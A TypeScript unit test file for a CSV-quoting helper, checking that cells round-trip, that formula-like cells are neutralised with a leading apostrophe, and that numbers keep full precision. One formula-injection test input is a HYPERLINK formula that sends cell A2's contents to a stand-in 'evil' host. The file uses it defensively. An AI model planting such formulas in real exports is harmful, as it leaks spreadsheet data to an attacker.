import { describe, expect, it } from 'vitest'
import { quoteCsv } from '../../src/shared/quoteCsv.ts'

/** The text that a reader of CSV finds in a cell. */
const read = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell)

describe('a cell of CSV', () => {
  it.each(['plain', '', 'a,b', 'a"b', 'two\nlines', 'carriage\rreturn', "'quoted'", 'a=b', '1-2'])(
    'is %j so that it reads back',
    (cell) => {
      const quoted = quoteCsv(cell)
      expect(read(quoted)).toBe(cell)
      expect(/[,\r\n"]/.test(cell)).toBe(quoted.startsWith('"'))
    },
  )

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '=HYPERLINK("http://evil/?x="&A2,"step")'])(
    'is no formula: %j',
    (cell) => {
      expect(read(quoteCsv(cell))).toBe(`'${cell}`)
    },
  )

  it.each([-1, 1e-300, 0.1 + 0.2, -0.5, Infinity])('is the number %d with all its digits', (value) => {
    expect(Number(quoteCsv(value))).toBe(value)
  })
})
